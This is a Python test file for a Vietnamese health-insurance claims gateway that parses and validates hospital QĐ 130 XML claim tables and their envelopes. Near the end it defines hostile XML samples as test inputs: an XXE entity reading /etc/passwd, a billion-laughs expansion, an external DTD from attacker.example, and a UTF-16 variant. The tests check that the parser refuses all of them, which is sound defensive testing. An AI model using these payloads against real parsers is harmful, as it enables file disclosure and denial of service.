"""QĐ 130/4750 files read and judged as the spec says (specs/vss-gateway.md 3–4), without a database."""

import base64
from datetime import date, datetime
from decimal import Decimal

import pytest

from ansinh.core.time import VN_TZ
from ansinh.gateway import qd130
from tests.support import his

FACILITY = "01001"


def _claim(**overrides: str) -> dict[str, bytes]:
    tables = his.claim_tables(
        visit_key="LK0001",
        name="Nguyễn Văn An",
        birth="198503150000",
        card="DN4010100000001",
        citizen_id="001085000001",
        facility=FACILITY,
        **overrides,  # type: ignore[arg-type]
    )
    return {kind: xml.encode() for kind, xml in tables.items()}


def test_a_claim_written_by_hospital_software_is_read_with_its_money_in_whole_dong_and_its_lines() -> None:
    claim = qd130.judge_claim(_claim(), facility_code=FACILITY)
    assert isinstance(claim, qd130.Claim), claim
    assert claim.visit_key == "LK0001"
    assert claim.holder == qd130.Holder(
        "Nguyễn Văn An", qd130.BirthDate(1985, date(1985, 3, 15)), "DN4010100000001", "001085000001"
    )
    assert claim.admitted_at == datetime(2026, 12, 7, 8, 15, tzinfo=VN_TZ)  # wall-clock time, as written
    assert claim.discharged_at == datetime(2026, 12, 7, 10, 30, tzinfo=VN_TZ)
    assert (claim.icd10_code, claim.diagnosis, claim.kcb_type, claim.inpatient) == (
        "J02.9",
        "Viêm họng cấp",
        "01",
        False,
    )
    assert claim.money == qd130.Money(
        total=65_555, hi_scope=65_555, out_of_scope=0, co_payment=13_111, hi_paid=52_444, other_sources=0
    )
    assert [
        (line.table, line.code, line.unit, line.quantity, line.unit_price, line.amount) for line in claim.lines
    ] == [
        ("XML2", "40.17", "Viên", Decimal("10.000"), 526, 5_255),  # 525.50 half up
        ("XML2", "40.123", "Viên", Decimal(14), 1_300, 18_200),
        ("XML3", "02.1896", "Lần", Decimal(1), 42_100, 42_100),
    ]
    assert claim.lines[2].hi_paid == 33_680
    assert claim.lines[2].patient_paid == 8_420
    assert set(claim.tables) == {"XML1", "XML2", "XML3"}


def test_an_empty_element_is_an_absent_value_and_a_required_one_is_refused_by_name() -> None:
    files = _claim()
    files["XML1"] = files["XML1"].replace(b"<MA_BENH_CHINH>J02.9</MA_BENH_CHINH>", b"<MA_BENH_CHINH/>")
    refusals = qd130.judge_claim(files, facility_code=FACILITY)
    assert refusals == [qd130.Refusal("LK0001", "XML1", "MA_BENH_CHINH", "Thiếu trường bắt buộc.")]


@pytest.mark.parametrize(
    ("element", "bad", "field"),
    [
        (b"<NGAY_VAO>202612070815</NGAY_VAO>", b"<NGAY_VAO>07/12/2026 08:15</NGAY_VAO>", "NGAY_VAO"),
        (b"<NGAY_VAO>202612070815</NGAY_VAO>", b"<NGAY_VAO>202602300815</NGAY_VAO>", "NGAY_VAO"),
        (b"<NGAY_RA>202612071030</NGAY_RA>", b"<NGAY_RA>202612060800</NGAY_RA>", "NGAY_RA"),
        (b"<T_BNCCT>13111.00</T_BNCCT>", b"<T_BNCCT>13111,00</T_BNCCT>", "T_BNCCT"),
        (b"<GT_THE_DEN>20991231</GT_THE_DEN>", b"<GT_THE_DEN>2099-12-31</GT_THE_DEN>", "GT_THE_DEN"),
        (b"<MA_THE_BHYT>DN4010100000001</MA_THE_BHYT>", b"<MA_THE_BHYT>DN40101</MA_THE_BHYT>", "MA_THE_BHYT"),
        (b"<GIOI_TINH>2</GIOI_TINH>", b"<GIOI_TINH>F</GIOI_TINH>", "GIOI_TINH"),
    ],
)
def test_a_field_in_the_wrong_format_is_refused_by_name(element: bytes, bad: bytes, field: str) -> None:
    files = _claim()
    assert element in files["XML1"]
    files["XML1"] = files["XML1"].replace(element, bad)
    refusals = qd130.judge_claim(files, facility_code=FACILITY)
    assert isinstance(refusals, list)
    assert [(r.visit_key, r.table, r.field) for r in refusals] == [("LK0001", "XML1", field)]


def test_the_total_must_be_the_lines_total() -> None:
    refusals = qd130.judge_claim(_claim(total_override="66555.00"), facility_code=FACILITY)
    assert isinstance(refusals, list)
    assert [(r.table, r.field) for r in refusals] == [("XML1", "T_TONGCHI_BV")]
    assert "XML2 và XML3" in refusals[0].reason


def test_the_fund_pays_the_insured_part_less_the_co_payment() -> None:
    refusals = qd130.judge_claim(_claim(hi_paid_override="60000"), facility_code=FACILITY)
    assert isinstance(refusals, list)
    assert [(r.field, r.reason) for r in refusals] == [
        ("T_BHTT", "T_BHTT (60000) khác T_TONGCHI_BH − T_BNCCT (52444.00).")
    ]


def test_the_fund_never_pays_more_than_the_insured_part_once_both_are_in_whole_dong() -> None:
    # Within the 1-đồng tolerance, 65,555.90 rounds to more than the 65,555 insured: kept, it would break the visit's
    # own rule (what the fund pays is within the insured part), and no resubmission could ever be stored.
    claim = _claim()
    claim["XML1"] = (
        claim["XML1"]
        .replace(b"<T_BNCCT>13111.00</T_BNCCT>", b"<T_BNCCT>0</T_BNCCT>")
        .replace(b"<T_BHTT>52444.00</T_BHTT>", b"<T_BHTT>65555.90</T_BHTT>")
    )
    refusals = qd130.judge_claim(claim, facility_code=FACILITY)
    assert isinstance(refusals, list)
    assert ("T_BHTT", "T_BHTT lớn hơn T_TONGCHI_BH.") in [(r.field, r.reason) for r in refusals]


def test_another_facilitys_code_in_xml1_is_refused() -> None:
    refusals = qd130.judge_claim(_claim(), facility_code="79024")
    assert isinstance(refusals, list)
    assert [r.field for r in refusals] == ["MA_CSKCB"]


def test_a_line_of_another_visit_is_refused() -> None:
    files = _claim()
    files["XML3"] = files["XML3"].replace(b"<MA_LK>LK0001</MA_LK>", b"<MA_LK>LK9999</MA_LK>")
    refusals = qd130.judge_claim(files, facility_code=FACILITY)
    assert isinstance(refusals, list)
    assert ("XML3 dòng 1", "MA_LK") in [(r.table, r.field) for r in refusals]


def test_the_sick_leave_certificate_is_read_as_data() -> None:
    files = _claim()
    files["XML11"] = (
        b"<CHI_TIEU_DU_LIEU_GIAY_NGHI_HUONG_BHXH><MA_LK>LK0001</MA_LK><SO_CT>12</SO_CT><SO_NGAY_NGHI>3</SO_NGAY_NGHI>"
        b"<TU_NGAY>20261207</TU_NGAY><DEN_NGAY>20261209</DEN_NGAY><MA_BS/></CHI_TIEU_DU_LIEU_GIAY_NGHI_HUONG_BHXH>"
    )
    claim = qd130.judge_claim(files, facility_code=FACILITY)
    assert isinstance(claim, qd130.Claim), claim
    assert claim.sick_leave == qd130.SickLeave(days=3, start=date(2026, 12, 7), end=date(2026, 12, 9))
    assert "XML11" in claim.tables


@pytest.mark.parametrize(
    ("written", "birth"),
    [
        ("198503150000", qd130.BirthDate(1985, date(1985, 3, 15))),
        ("19850315", qd130.BirthDate(1985, date(1985, 3, 15))),
        ("1985", qd130.BirthDate(1985, None)),
        ("198500000000", qd130.BirthDate(1985, None)),
        ("198502300000", None),
        ("15/03/1985", None),
    ],
)
def test_birth_dates_are_read_with_their_precision(written: str, birth: qd130.BirthDate | None) -> None:
    assert qd130.parse_birth(written) == birth


def test_the_holder_is_judged_as_the_card_check_judges_them() -> None:
    holder = qd130.Holder("  nguyễn  VĂN an ", qd130.BirthDate(1985, None), None, None)
    match = {"visit_key": "LK", "table": "XML1", "birth_date": date(1985, 3, 15), "year_only": False}
    assert qd130.holder_refusal(holder, full_name="Nguyễn Văn An", **match) is None  # type: ignore[arg-type]
    wrong = qd130.holder_refusal(holder, full_name="Nguyen Van An", **match)  # type: ignore[arg-type]
    assert wrong is not None
    assert wrong.field == "HO_TEN"
    born_later = qd130.Holder("Nguyễn Văn An", qd130.BirthDate(1985, date(1985, 3, 16)), None, None)
    late = qd130.holder_refusal(born_later, full_name="Nguyễn Văn An", **match)  # type: ignore[arg-type]
    assert late is not None
    assert late.field == "NGAY_SINH"
    year_only = {**match, "year_only": True}
    assert qd130.holder_refusal(born_later, full_name="Nguyễn Văn An", **year_only) is None  # type: ignore[arg-type]


# --- the envelope -------------------------------------------------------------------------------------------------


def test_an_envelope_holds_each_visits_tables_base64_or_inline() -> None:
    tables = his.claim_tables(
        visit_key="LK1", name="A", birth="1985", card="0100000001", citizen_id="001085000001", facility=FACILITY
    )
    inline = "<HOSO><FILEHOSO><LOAIHOSO>XML1</LOAIHOSO><NOIDUNGFILE>{}</NOIDUNGFILE></FILEHOSO></HOSO>".format(
        tables["XML1"].split("\n", 1)[1]
    )
    read = qd130.read_envelope(his.envelope(FACILITY, [his.hoso(tables), inline], signature="<Signature/>").encode())
    assert read.facility_code == FACILITY
    assert read.signature == "<Signature />"
    first, second = read.visits
    assert isinstance(first, dict)
    assert set(first) == {"XML1", "XML2", "XML3"}
    assert isinstance(second, dict)
    assert b"<MA_LK>LK1</MA_LK>" in second["XML1"]


def test_a_visit_with_bad_base64_is_refused_with_a_message() -> None:
    bad = "<HOSO><FILEHOSO><LOAIHOSO>XML1</LOAIHOSO><NOIDUNGFILE>not*base64!</NOIDUNGFILE></FILEHOSO></HOSO>"
    [refusal] = qd130.read_envelope(his.envelope(FACILITY, [bad]).encode()).visits
    assert refusal == qd130.Refusal(None, "XML1", "NOIDUNGFILE", "NOIDUNGFILE của XML1 không phải chuỗi base64 hợp lệ.")


def test_base64_wrapped_in_lines_or_with_plus_signs_turned_to_spaces_is_read() -> None:
    data = bytes(range(256)) * 3
    text = base64.encodebytes(data).decode()  # 76-character lines
    assert qd130.decode_base64(text, what="x", limit=10_000) == data
    assert qd130.decode_base64(base64.b64encode(data).decode().replace("+", " "), what="x", limit=10_000) == data
    with pytest.raises(qd130.FileRefused, match="vượt quá giới hạn"):
        qd130.decode_base64(base64.b64encode(b"x" * 2048), what="x", limit=1024)


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE GIAMDINHHS [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<GIAMDINHHS><THONGTINDONVI><MACSKCB>&xxe;</MACSKCB></THONGTINDONVI></GIAMDINHHS>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<GIAMDINHHS>&lol3;</GIAMDINHHS>"""


# An external DTD with no internal subset: nothing may be fetched, so a DOCTYPE alone is refused.
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE GIAMDINHHS SYSTEM "http://attacker.example/evil.dtd"><GIAMDINHHS/>"""
# The same attack in UTF-16 (which expat reads): no byte-level search for "<!DOCTYPE" would see it.
UTF16_XXE = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")


@pytest.mark.parametrize(
    "document",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, UTF16_XXE],
    ids=["external-entity", "entity-expansion", "external-dtd", "utf-16"],
)
def test_hostile_xml_is_refused_before_anything_is_read(document: bytes) -> None:
    with pytest.raises(qd130.FileRefused, match="DTD hoặc thực thể"):
        qd130.read_envelope(document)
    with pytest.raises(qd130.FileRefused, match="DTD hoặc thực thể"):
        qd130.parse_xml(document, what="Bảng XML1")


def test_a_hostile_table_inside_a_good_envelope_refuses_that_visit_only() -> None:
    visit = his.hoso({"XML1": XXE.decode()})
    [files] = qd130.read_envelope(his.envelope(FACILITY, [visit]).encode()).visits
    assert isinstance(files, dict)
    [refusal] = qd130.judge_claim(files, facility_code=FACILITY)  # type: ignore[misc]
    assert (refusal.table, refusal.reason) == (
        "XML1",
        "Bảng XML1 chứa DTD hoặc thực thể (entity) XML, không được chấp nhận.",
    )


def test_more_than_a_thousand_visits_are_refused() -> None:
    empty = "<HOSO></HOSO>"
    with pytest.raises(qd130.FileRefused, match="quá 1000"):
        qd130.read_envelope(his.envelope(FACILITY, [empty] * 1001).encode())
    assert len(qd130.read_envelope(his.envelope(FACILITY, [empty] * 1000).encode()).visits) == 1000


@pytest.mark.parametrize("document", [b"", b"not xml", b"<OTHER/>", b"<GIAMDINHHS><HOSO>"], ids=repr)
def test_a_file_that_is_no_envelope_is_refused(document: bytes) -> None:
    with pytest.raises(qd130.FileRefused):
        qd130.read_envelope(document)
